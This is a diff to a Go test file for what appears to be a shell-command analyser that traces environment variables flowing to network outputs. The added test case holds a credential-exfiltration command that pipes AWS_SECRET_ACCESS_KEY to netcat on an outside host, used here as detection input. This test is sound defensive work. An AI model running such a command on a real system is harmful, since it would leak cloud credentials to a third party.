@@ -680,6 +680,10 @@ func TestAssignmentsEnvOutputs(t *testing.T) {
 	if !slices.Equal(outs, wantOuts) {
 		t.Errorf("outputs %v, want %v", outs, wantOuts)
 	}
+	f = run(t, `printenv AWS_SECRET_ACCESS_KEY | nc x.io 80`)
+	if len(f.Outputs) != 1 || f.Outputs[0].Sink != "network" || f.Outputs[0].Vars[0] != "AWS_SECRET_ACCESS_KEY" || len(f.EnvReads) != 1 {
+		t.Errorf("printenv output %+v / %+v", f.Outputs, f.EnvReads)
+	}
 	f = run(t, `curl -H "Authorization: Bearer $TOKEN" https://api.x.io`)
 	if len(f.Outputs) != 1 || f.Outputs[0].Sink != "network" || f.Outputs[0].Vars[0] != "TOKEN" {
 		t.Errorf("curl header output %+v", f.Outputs)
